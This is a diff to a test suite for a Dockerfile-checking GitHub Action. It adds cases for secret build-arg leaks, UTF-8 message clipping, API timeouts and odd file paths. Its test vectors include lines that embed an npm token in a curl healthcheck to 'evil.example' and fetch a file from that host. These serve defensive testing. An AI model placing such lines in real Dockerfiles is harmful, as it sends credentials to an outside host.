@@ -98,7 +98,22 @@ describe('1. build-args are withheld: a secret passed as a build arg is never pu
         'LABEL leak=${ALIAS}',
         'ENV LEAK=${NPM_TOKEN}x',
         'RUN echo ${ALIAS} $NPM_TOKEN',
-        'COPY --from=${NPM_TOKEN} /a /b'
+        'COPY --from=${NPM_TOKEN} /a /b',
+        'ARG QUOTED="${NPM_TOKEN}"',
+        'ARG DEFAULTED=${NPM_TOKEN:-none}',
+        'ARG REPLACED=${NPM_TOKEN/npm/x}',
+        'ARG PREFIXED=${NPM_TOKEN#npm_}',
+        'COPY --chown=${NPM_TOKEN}:${NPM_TOKEN} a /a',
+        'ADD --checksum=sha256:${NPM_TOKEN} https://evil.example/f /f',
+        'RUN --mount=type=secret,id=${NPM_TOKEN} echo hi',
+        'VOLUME /${ALIAS}',
+        'STOPSIGNAL ${NPM_TOKEN}',
+        'HEALTHCHECK CMD curl -f https://${NPM_TOKEN}@evil.example/',
+        'ONBUILD RUN echo ${NPM_TOKEN}',
+        'ENV PATH=/${QUOTED}:$PATH',
+        'COPY ${DEFAULTED} ${REPLACED} ${PREFIXED} /z/',
+        'CMD ["${NPM_TOKEN}"]',
+        '${NPM_TOKEN} unknown instruction'
       ]
       attack('1 build-args taint', ...vectors.filter((v) => v.includes('$')), 'a build-args line without = that holds the secret')
       server.files.push({ filename: 'Dockerfile', status: 'added' })
@@ -360,14 +375,18 @@ describe('6. check runs are never left in progress', () => {
     expect(result.summary).toContain('100 more finding(s) are not annotations on the check run (at most 1000)')
   })
 
-  it('a message of 30,000 CJK characters (90 KB) is clipped by UTF-8 bytes, so the run is not refused', async () => {
-    attack('6 check runs', '30,000 CJK characters in one finding message')
-    ;[server, tree] = await addedDockerfile(df(`FROM alpine:3.20 AS a b ${'漢'.repeat(30_000)}`, 'USER app'))
+  it.each([
+    ['30,000 CJK characters (3 bytes each, 90 KB)', '漢', 30_000],
+    ['20,000 emoji (4 bytes and two UTF-16 units each, 80 KB)', '😀', 20_000],
+    ['40,000 accented letters (2 bytes each, 80 KB)', 'é', 40_000]
+  ])('a finding message of %s is clipped by UTF-8 bytes, so the run is not refused', async (name, char, count) => {
+    attack('6 check runs', `${name} in one finding message`)
+    ;[server, tree] = await addedDockerfile(df(`FROM alpine:3.20 AS a b ${char.repeat(count)}`, 'USER app'))
     const result = await runAction(server, tree.dir, 'pull_request', { comment: 'never', 'fail-on': 'never' })
     const annotations = (server.checkRuns[0]?.body as { output: { annotations: { message: string; title: string }[] } }).output.annotations
-    const long = annotations.find((a) => a.message.includes('漢'))
+    const long = annotations.find((a) => a.message.includes(char))
     expect(Buffer.byteLength(long?.message ?? '', 'utf8')).toBeLessThanOrEqual(64_000)
-    expect(long?.message).toMatch(/漢…\nhttps:\/\/\S+\/docs\/rules\/parse-error\.md$/)
+    expect(long?.message).toMatch(new RegExp(`${char}…\\nhttps://\\S+/docs/rules/parse-error\\.md$`, 'u'))
     expect(output(result.outputs, 'check-run-url')).not.toBe('')
   })
 })
@@ -391,6 +410,29 @@ describe('7. no duplicates, no endless waits, and every fault ends with a summar
     expect(server.checkRuns).toHaveLength(1)
     expect(server.requests.map((r) => `${r.method} ${r.path}`)).toContain('GET /repos/o/r/commits/headsha/check-runs')
     expect(output(result.outputs, 'check-run-url')).toBe(`https://github.com/o/r/runs/${server.checkRuns[0]?.id ?? 0}`)
+    expect(result.code).toBe(0)
+  })
+
+  it('a check-run POST that never answers times out, is looked for, and is created once', async () => {
+    attack('7 duplicates and waits', 'POST check run never answers')
+    ;[server, tree] = await addedDockerfile(df('FROM alpine:3.20', 'USER app'))
+    server.hang('POST /repos/o/r/check-runs')
+    const result = await runAction(server, tree.dir, 'pull_request', { comment: 'never' }, PR_PAYLOAD, { STAGECRAFT_GITHUB_TIMEOUT_MS: '1000' }, 30_000)
+    expect(result.killed).toBe(false)
+    expect(server.checkRuns).toHaveLength(1)
+    expect(server.requests.filter((r) => r.method === 'POST' && r.path.endsWith('/check-runs'))).toHaveLength(2)
+    expect(result.code).toBe(0)
+  })
+
+  it('listing the comments never answers: the comment degrades like any fault, said in the summary, and the step goes on', async () => {
+    attack('7 duplicates and waits', 'GET comments never answers')
+    ;[server, tree] = await addedDockerfile(df('FROM alpine:3.20', 'USER app'))
+    server.hang('GET /repos/o/r/issues/7/comments')
+    const result = await runAction(server, tree.dir, 'pull_request', { comment: 'always' }, PR_PAYLOAD, { STAGECRAFT_GITHUB_TIMEOUT_MS: '1000' }, 30_000)
+    expect(result.killed).toBe(false)
+    expect(result.ms).toBeLessThan(20_000)
+    expect(result.summary).toContain('The pull request comment could not be written: the API failed: GitHub did not answer within 1 s.')
+    expect(server.checkRuns).toHaveLength(1)
     expect(result.code).toBe(0)
   })
 
@@ -434,7 +476,8 @@ describe('8. large and odd inputs', () => {
   it.each([
     ['a newline', 'evil\n/Dockerfile'],
     ['U+2028', 'svc\u2028/Dockerfile'],
-    ['U+2029', 'Dockerfile\u2029']
+    ['U+2029', 'Dockerfile\u2029'],
+    ['a carriage return', 'deploy\r/Dockerfile']
   ])('a changed Dockerfile with %s in its path is said, not skipped silently, and fails', async (name, path) => {
     attack('8 large and odd inputs', `a path with ${name}`)
     server = await startFakeGitHub()
